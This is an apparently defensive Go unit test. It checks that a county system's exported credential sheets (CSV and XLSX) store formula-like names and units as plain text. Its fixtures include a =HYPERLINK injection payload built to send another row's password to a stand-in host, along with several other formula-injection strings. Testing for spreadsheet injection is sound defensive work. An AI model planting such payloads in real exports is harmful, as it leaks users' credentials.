package auth

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http/httptest"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/countycloud/countycloud/core/spreadsheet"
)

// TestACredentialSheetRunsNoNameAsAFormula: a unit or person named like
// a formula (=HYPERLINK carrying another row's password away) is text in
// the CSV and in the XLSX sheet, and reads back exactly.
func TestACredentialSheetRunsNoNameAsAFormula(t *testing.T) {
	rows := []IssuedCredential{
		{Unit: `=HYPERLINK("http://x/?p="&D3,"点击")`, Name: "+1+1", Login: "a1", Password: "Pw-1"},
		{Unit: "县委办公室", Name: "-2+3", Login: "a2", Password: "Pw-2"},
		{Unit: "@SUM(A1)", Name: "\t=1+1", Login: "a3", Password: "Pw-3"},
		{Unit: "\r=1+1", Name: "＝1+1", Login: "a4", Password: "Pw-4"},
	}
	want := [][]string{sheetHeader}
	for _, c := range rows {
		want = append(want, []string{c.Unit, c.Name, c.Login, c.Password})
	}

	rec := httptest.NewRecorder()
	if err := encodeSheet(context.Background(), rec, sheet{format: "csv", rows: rows}); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(rec.Body.Bytes(), []byte("\xEF\xBB\xBF")))).ReadAll()
	if err != nil || len(records) != len(want) {
		t.Fatalf("CSV: %q %v", records, err)
	}
	for i, r := range records {
		for j, cell := range r {
			if spreadsheet.FormulaLike(cell) {
				t.Errorf("CSV row %d column %d starts a formula: %q", i+1, j+1, cell)
			}
			if got := spreadsheet.FromCSVCell(cell); got != want[i][j] {
				t.Errorf("CSV row %d column %d reads %q, want %q", i+1, j+1, got, want[i][j])
			}
		}
	}

	rec = httptest.NewRecorder()
	if err := encodeSheet(context.Background(), rec, sheet{format: "xlsx", rows: rows}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(rec.Body)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	name := f.GetSheetName(0)
	for i, row := range want {
		for j, value := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if formula, _ := f.GetCellFormula(name, cell); formula != "" {
				t.Errorf("XLSX %s is the formula %q", cell, formula)
			}
			if got, _ := f.GetCellValue(name, cell); got != value {
				t.Errorf("XLSX %s reads %q, want %q", cell, got, value)
			}
			if !spreadsheet.FormulaLike(value) {
				continue
			}
			id, _ := f.GetCellStyle(name, cell)
			if style, err := f.GetStyle(id); err != nil || style.NumFmt != 49 || f.Styles.CellXfs.Xf[id].QuotePrefix == nil || !*f.Styles.CellXfs.Xf[id].QuotePrefix {
				t.Errorf("XLSX %s (%q) is not marked as text: style %d %v", cell, value, id, err)
			}
		}
	}
}
